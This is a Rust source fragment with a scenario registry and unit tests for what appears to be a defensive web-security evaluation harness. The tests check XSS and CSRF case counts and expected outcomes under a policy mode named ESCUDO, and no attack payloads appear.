/// The built-in scenario registry, in presentation order.
#[must_use]
pub fn registry() -> Vec<Scenario> {
    vec![
        classic_scenario(TargetApp::Forum),
        classic_scenario(TargetApp::Calendar),
        blog_scenario(),
        spa_scenario(),
        adnet_scenario(),
        vault_scenario(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn registry_covers_the_six_scenarios_with_unique_case_ids() {
        let scenarios = registry();
        let ids: Vec<&str> = scenarios.iter().map(|s| s.id).collect();
        assert_eq!(ids, ["forum", "calendar", "blog", "spa", "adnet", "vault"]);
        let mut case_ids: Vec<String> = scenarios
            .iter()
            .flat_map(|s| s.cases.iter().map(|c| c.id.clone()))
            .collect();
        let count = case_ids.len();
        case_ids.sort_unstable();
        case_ids.dedup();
        assert_eq!(case_ids.len(), count, "case ids must be unique");
        assert!(scenarios.iter().all(|s| !s.cases.is_empty()));
    }

    #[test]
    fn the_classic_scenarios_carry_the_whole_attack_corpus() {
        let scenarios = registry();
        let forum = scenarios.iter().find(|s| s.id == "forum").unwrap();
        let calendar = scenarios.iter().find(|s| s.id == "calendar").unwrap();
        // 4 XSS + 5 CSRF per app, as in §6.4.
        assert_eq!(forum.cases.len(), 9);
        assert_eq!(calendar.cases.len(), 9);
    }

    #[test]
    fn spa_cells_match_their_expectations_under_both_modes() {
        let scenarios = registry();
        let spa = scenarios.iter().find(|s| s.id == "spa").unwrap();
        let report = MatrixReport::run(std::slice::from_ref(&Scenario {
            id: spa.id,
            name: spa.name,
            tags: spa.tags.clone(),
            cases: spa.cases.clone(),
        }));
        assert_eq!(report.cells(), 8);
        assert!(
            report.unexpected().is_empty(),
            "unexpected: {:?}",
            report.unexpected()
        );
    }

    #[test]
    fn vault_cells_match_their_expectations_leak_by_leak() {
        let scenarios = registry();
        let vault = scenarios.iter().find(|s| s.id == "vault").unwrap().clone();
        let report = MatrixReport::run(&[vault]);
        assert_eq!(report.cells(), 8);
        assert!(
            report.unexpected().is_empty(),
            "unexpected: {:?}",
            report.unexpected()
        );
        // The defended cells under ESCUDO actually recorded denials.
        for outcome in report.for_mode(PolicyMode::Escudo) {
            if outcome.expected == Verdict::Neutralized {
                assert!(outcome.denials > 0, "{} recorded no denial", outcome.case);
            }
        }
    }

    #[test]
    fn adnet_cells_match_their_expectations_under_both_modes() {
        let scenarios = registry();
        let adnet = scenarios.iter().find(|s| s.id == "adnet").unwrap().clone();
        let report = MatrixReport::run(&[adnet]);
        assert_eq!(report.cells(), 6);
        assert!(
            report.unexpected().is_empty(),
            "unexpected: {:?}",
            report.unexpected()
        );
    }

    #[test]
    fn outcome_display_flags_unexpected_cells() {
        let outcome = ScenarioOutcome {
            scenario: "spa",
            case: "spa-boot".to_string(),
            name: "boot".to_string(),
            kind: CaseKind::Probe,
            mode: PolicyMode::Escudo,
            expected: Verdict::Succeeds,
            observed: Verdict::Neutralized,
            checks: 10,
            denials: 1,
        };
        let line = outcome.to_string();
        assert!(line.contains("UNEXPECTED"));
        assert!(!outcome.as_expected());
    }
}
